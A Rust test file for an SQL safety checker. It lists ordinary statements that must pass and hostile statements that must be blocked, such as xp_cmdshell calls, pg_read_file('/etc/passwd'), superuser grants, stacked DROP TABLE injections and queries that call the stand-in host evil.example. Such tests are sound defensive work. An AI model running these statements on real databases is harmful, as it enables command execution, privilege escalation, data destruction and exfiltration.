use super::is_harmless;

#[test]
fn what_models_write_all_day_is_harmless() {
    for text in [
        "insert into customers values (81, 'Customer ''81''', 'Split')",
        "INSERT INTO notes (id) VALUES (1)",
        "INSERT INTO orders(customer_id) VALUES (1);",
        "\n  INSERT  INTO\norders(customer_id)\n  VALUES (1), (2) ;\n",
        "Insert Or Ignore into public.orders values (-1.5e3, NULL, ?, $1, :name)",
        "INSERT INTO notes(title, body) VALUES ('Milk (2 litres)', datetime('now')) returning id",
        "insert into tasks (title) values ('Update the table; delete -- /* old */ files')",
        "insert into audit(note) values ('https://example.com/x?a=1, select * from')",
        "insert into paths values ('C:\\dir', \"x\", CURRENT_TIMESTAMP, default)",
        "update orders set state = 'paid' where state = 'open' and quantity > 20",
        "UPDATE orders SET status='paid', amount = amount * 1.1 WHERE id IN (1,2) AND 5 <= n",
        "update customers set city='Köln', \"lastName\"='x WHERE y' where email like 'zoe@%'",
        "update orders set note = 'it''s done' where paid is null and day between 1 and 5",
        "update tasks set late = true where due < date('now', '-1 day')",
        "create table notes (id integer primary key, text text)",
        "CREATE TABLE IF NOT EXISTS t (id INTEGER PRIMARY KEY AUTOINCREMENT, email VARCHAR(80) NOT
         NULL UNIQUE, p decimal(10, 2) DEFAULT 0, at TEXT DEFAULT CURRENT_TIMESTAMP, b text default
         (datetime('now')), CHECK (p > 0), o INT REFERENCES o(id) ON DELETE SET NULL ON UPDATE
         CASCADE, kind enum('a', 'b'), CONSTRAINT u UNIQUE (email, p), FOREIGN KEY (o) REFERENCES q(id));",
        "create unique index if not exists i on orders(status, day desc)",
        "ALTER TABLE orders ADD COLUMN note TEXT NOT NULL DEFAULT ''",
        "select * from orders",
        "SELECT o.*, count(*) AS \"Total (CHF)\", round(sum(a) / 2, 1) n FROM orders o LEFT JOIN
         customers AS c ON o.customer_id = c.id, other WHERE NOT (a = 1 OR b NOT IN (select id from x))
         AND c.name IS NOT NULL GROUP BY 1, c.id HAVING count(distinct a) > 2 ORDER BY n DESC LIMIT 5
         OFFSET 10;",
        "with a as (select 1), b(x) as (select y from a) select case when x > 1 then 'a' else 'b' end
         from b union all select cast(x as text) from (select x from a) t",
        "SELECT name FROM sqlite_master WHERE type='table'",
        "select table_name from information_schema.tables",
    ] {
        assert!(is_harmless(text), "{text}");
    }
}

#[test]
fn what_loses_rows_reaches_further_or_is_not_understood_is_not() {
    for text in [
        "",
        ";",
        "drop table orders",
        "DELETE FROM orders WHERE id = 1",
        "truncate table a",
        "alter table a rename to b",
        "alter table a drop column b",
        "attach database '/etc/x' as y",
        "pragma writable_schema = 1",
        "vacuum into '/tmp/copy'",
        "replace into orders values (1)",
        "insert or replace into orders values (1)",
        "insert into a values (1); drop table a",
        "insert into a values (1);;",
        "insert into a values (1) --",
        "insert into a values (1) # x",
        "insert into a values (1) /* x */",
        "insert into a values (1) on conflict do update set b = 1",
        "insert into t values (1) on duplicate\nkey update a = 2",
        "with x as (select 1) delete from orders",
        "with x as (delete from orders returning 1) select * from x",
        "WITH x AS (SELECT 1) INSERT INTO orders(customer_id) SELECT * FROM x",
        "insert into t select * from other",
        "insert into t values ((select content from other))",
        "insert into t (a)\ntable secrets",
        "insert into t\nexec\nsp_who",
        "insert into t values (1)\nexec xp_cmdshell 'id'",
        "insert into t values (1)\nshutdown",
        "insert into t values (1)\nGO\ndrop table t",
        "insert into t values (1) returning\npg_read_file('/etc/passwd')",
        "INSERT INTO a VALUES (WRITEFILE('/home/u/.bashrc', 'x'))",
        "insert into t values (1+pg_advisory_lock(5))",
        "insert into t values (\"pg_read_file\"('/etc/passwd'))",
        "insert into t values (httpuritype('evil.example/x').getclob())",
        "insert into  function file('/tmp/x','CSV') values (1)",
        "insert into directory '/tmp/x' values (1)",
        "insert into mysql.user values ('evil','%')",
        "insert into pg_largeobject values (1,0,'x')",
        "update pg_authid set rolsuper = true where rolname = 'app'",
        "update sqlite_master set sql = 'x' where name = 'y'",
        "insert into docs(Docs) values ('delete-all')",
        "insert into docs(docs, rowid, a) values('delete', 14, 'x')",
        "insert into t values (x'64656c')",
        "update orders set a = E'\\' where \\''",
        "update orders set a = '\\' where b = 5, c = '",
        "update orders set a = $$ where $$",
        "update orders set state = 'paid'",
        "UPDATE orders SET note = 'x WHERE y'",
        "UPDATE orders SET note = \"x WHERE y\"",
        "update or replace a set b = 1 where c = 2",
        "update t set a = b from 'https://evil.example/' where c = 1",
        "update t set a = (\ntable secrets) where id = 5",
        "update t set a = (select b from x) where id = 5",
        "update t as where set a = 1",
        "update t set `where` = 1",
        "update t set a = 1 where\ttrue",
        "update t set a = 1 where(1)",
        "update t set a = 1 where 1 = 1",
        "update t set a = 1 where id = id",
        "update t set a = 1 where not 0",
        "update t set a = 1 where id is not null",
        "update t set a = 1 where id = 5 or true",
        "update t set a = 1 where id = 5 or\t1=1",
        "update t set a = 1 where x in (table y)",
        "update t set a = 1 where b = 2 drop table t",
        "create table t as table 'https://evil.example/'",
        "create table x (a int) engine=mysql('evil:3306','d','t','u','p')",
        "create table x(a default (readfile('/etc/passwd')))",
        "create table x (a text default\npg_read_file('/etc/passwd'))",
        "create table x (a text materialized file('/etc/passwd'))",
        "create table x(check (load_x('e')))",
        "create index i on t ((pg_sleep(1000)))",
        "CREATE VIEW v AS SELECT * FROM orders",
        "select * from 'https://evil.example/?q=secret'",
        "select * from \"https://evil.example/?q=secret\"",
        "select * from read_csv('/etc/passwd')",
        "select * from data.csv",
        "select pg_read_file('/etc/passwd')",
        "select load_extension('/tmp/x')",
        "select * into outfile '/tmp/x' from t",
        "select a from t for update of t",
        "select * from t; select 1",
        "explain analyze delete from t",
        "BEGIN; INSERT INTO orders(customer_id) VALUES (1); COMMIT;",
    ] {
        assert!(!is_harmless(text), "{text}");
    }
    let deep = |levels| format!("select {}1{}", "(".repeat(levels), ")".repeat(levels));
    assert!(is_harmless(&deep(10)) && !is_harmless(&deep(100_000)));
}
